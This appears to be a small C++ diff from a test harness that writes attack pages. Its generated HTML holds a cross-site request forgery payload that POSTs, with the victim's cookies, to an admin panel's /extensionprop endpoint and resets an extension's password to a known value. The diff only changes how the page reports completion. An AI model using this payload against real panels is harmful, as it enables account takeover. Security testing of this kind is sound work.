@@ -26,7 +26,7 @@ void WriteAttackPages(const std::string &folder, const std::string &panel)
     std::ofstream(folder + "/fetch_edit.html")
         << "<script>fetch('" << panel << "/extensionprop', {method: 'POST', mode: 'no-cors', "
         << "credentials: 'include', body: new URLSearchParams('save=1&id=101&name=101&password="
-        << "KNOWN')})</script>fetched";
+        << "KNOWN')}).then(() => document.body.append('answered'))</script>fetching ";
 }
 
 std::string Step(const std::string &output, const char *step)
